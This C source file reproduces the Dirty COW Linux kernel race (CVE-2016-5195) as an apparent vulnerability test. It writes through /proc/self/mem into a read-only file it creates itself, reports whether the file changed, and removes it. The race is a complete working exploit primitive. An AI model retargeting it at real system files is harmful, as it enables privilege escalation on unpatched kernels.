/* dirtycow: the Dirty COW race (CVE-2016-5195), in the shape of the public PoC dirtyc0w.c.
 *
 * A file only readable by us (mode 0444, opened O_RDONLY) is mapped PROT_READ MAP_PRIVATE.
 * Two threads, released together by a barrier:
 *  - madviser: madvise(map, 100, MADV_DONTNEED) in a loop, zapping the private COW copy;
 *  - writer:   lseek(/proc/self/mem, map) + write("DIRTYCOW") in a loop, a FOLL_FORCE
 *    write that must land in the private COW copy, then pread of the file through a
 *    second descriptor (not through the mapping, which shows the COW copy) to see whether
 *    the file itself changed.
 * On a kernel with the bug (before Linux commit 19be0eaffa3a "mm: remove gup_flags
 * FOLL_WRITE games from __get_user_pages()"; dirtybit's `--gup dirtycow`), the COW break
 * in faultin_page() drops FOLL_WRITE; if the madviser zaps the COW copy before
 * follow_page_mask() retries, the retry maps the page-cache page read-only and the write
 * goes into it: the file changes. On a fixed kernel the file never changes.
 *
 * argv[1]: the most iterations each thread makes (default 100000). The writer stops at
 * the first write seen in the file or at its budget, and then stops the madviser too; the
 * madviser runs until told (as long as the writer writes), with a cap of 64 times the
 * budget so that it cannot spin forever.
 *
 * stdout, exactly two lines whatever the outcome (the caller decides which is expected):
 *   dirtycow: file modified after N writes   |   dirtycow: file unchanged after N writes
 *   file: <first line of the file>
 * exit status 0. stderr: the madvise count. Any failing call: a line naming it and its
 * errno on stdout, exit status 1. The target file is removed at the end. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "errname.h"

#define TARGET "/tmp/dirtycow-target"

static const char original[] = "ORIGINAL-CONTENT-0123456789\n";
static const char payload[] = "DIRTYCOW";
#define PAYLOAD_LEN (sizeof payload - 1)

static char *map;              /* PROT_READ MAP_PRIVATE mapping of the target */
static int check_fd = -1;      /* a second O_RDONLY descriptor of the target, for pread */
static long budget = 100000;   /* iterations per thread */
static pthread_barrier_t start;
static atomic_int stop;        /* set by the writer: the madviser leaves its loop */
static long writes, madvises;  /* each written by its own thread only, read after join */
static int modified;

static void die(const char *what)
{
    printf("dirtycow: %s: %s\n", what, errname(errno));
    exit(1);
}

/* pthread functions return the error instead of setting errno. */
static void check_pthread(int e, const char *what)
{
    if (e != 0) {
        errno = e;
        die(what);
    }
}

/* Reads the start of the file through check_fd into buf (NUL-terminated). */
static void read_file_head(char *buf, size_t size)
{
    ssize_t n = pread(check_fd, buf, size - 1, 0);
    if (n < 0)
        die("pread target");
    buf[n] = 0;
}

static void *madviser(void *arg)
{
    (void)arg;
    int e = pthread_barrier_wait(&start);
    if (e != 0 && e != PTHREAD_BARRIER_SERIAL_THREAD)
        check_pthread(e, "pthread_barrier_wait");
    while (madvises < 64 * budget && !atomic_load_explicit(&stop, memory_order_relaxed)) {
        if (madvise(map, 100, MADV_DONTNEED) != 0)
            die("madvise MADV_DONTNEED");
        madvises++;
    }
    return NULL;
}

static void *writer(void *arg)
{
    (void)arg;
    int mem = open("/proc/self/mem", O_RDWR);
    if (mem < 0)
        die("open /proc/self/mem");
    int e = pthread_barrier_wait(&start);
    if (e != 0 && e != PTHREAD_BARRIER_SERIAL_THREAD)
        check_pthread(e, "pthread_barrier_wait");
    char head[sizeof original];
    while (writes < budget) {
        off_t at = (off_t)(uintptr_t)map;
        if (lseek(mem, at, SEEK_SET) != at)
            die("lseek /proc/self/mem");
        ssize_t n = write(mem, payload, PAYLOAD_LEN);
        if (n < 0)
            die("write /proc/self/mem");
        if (n != (ssize_t)PAYLOAD_LEN) {
            printf("dirtycow: write /proc/self/mem: %zd of %zu bytes\n", n, PAYLOAD_LEN);
            exit(1);
        }
        writes++;
        read_file_head(head, sizeof head);
        if (strcmp(head, original) != 0) {
            modified = 1;
            break;
        }
    }
    atomic_store(&stop, 1);
    if (close(mem) != 0)
        die("close /proc/self/mem");
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc > 1) {
        char *end;
        budget = strtol(argv[1], &end, 10);
        if (*argv[1] == 0 || *end != 0 || budget <= 0) {
            printf("dirtycow: usage: dirtycow [iterations per thread > 0]\n");
            return 1;
        }
    }
    long pg = sysconf(_SC_PAGESIZE);
    if (pg <= 0)
        die("sysconf _SC_PAGESIZE");
    size_t size = (size_t)pg;

    /* The target: one page, the original line then zeros; left read-only for everyone. */
    if (unlink(TARGET) != 0 && errno != ENOENT)
        die("unlink old " TARGET);
    int fd = open(TARGET, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd < 0)
        die("create " TARGET);
    char *page = calloc(1, size);
    if (!page)
        die("calloc");
    memcpy(page, original, sizeof original - 1);
    if (write(fd, page, size) != (ssize_t)size)
        die("write " TARGET);
    free(page);
    if (close(fd) != 0)
        die("close " TARGET);
    if (chmod(TARGET, 0444) != 0)
        die("chmod " TARGET);

    fd = open(TARGET, O_RDONLY);
    if (fd < 0)
        die("open " TARGET " O_RDONLY");
    map = mmap(NULL, size, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED)
        die("mmap PROT_READ MAP_PRIVATE " TARGET);
    check_fd = open(TARGET, O_RDONLY);
    if (check_fd < 0)
        die("open " TARGET " for checking");

    check_pthread(pthread_barrier_init(&start, NULL, 2), "pthread_barrier_init");
    pthread_t mt, wt;
    check_pthread(pthread_create(&mt, NULL, madviser, NULL), "pthread_create madviser");
    check_pthread(pthread_create(&wt, NULL, writer, NULL), "pthread_create writer");
    check_pthread(pthread_join(wt, NULL), "pthread_join writer");
    check_pthread(pthread_join(mt, NULL), "pthread_join madviser");
    check_pthread(pthread_barrier_destroy(&start), "pthread_barrier_destroy");

    char head[256];
    read_file_head(head, sizeof head);
    char *nl = strchr(head, '\n');
    if (nl)
        *nl = 0;
    printf("dirtycow: file %s after %ld writes\n", modified ? "modified" : "unchanged", writes);
    printf("file: %s\n", head);
    fprintf(stderr, "dirtycow: %ld madvise calls\n", madvises);

    if (munmap(map, size) != 0)
        die("munmap");
    if (close(fd) != 0 || close(check_fd) != 0)
        die("close " TARGET);
    if (unlink(TARGET) != 0)
        die("unlink " TARGET);
    return 0;
}
